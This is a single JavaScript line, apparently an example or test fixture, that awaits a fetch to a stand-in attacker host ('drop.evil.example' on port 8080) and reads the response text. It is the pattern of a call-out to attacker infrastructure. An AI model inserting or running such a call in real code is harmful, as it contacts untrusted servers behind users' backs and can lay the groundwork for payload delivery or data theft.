await (await fetch('http://drop.evil.example:8080/hello')).text()
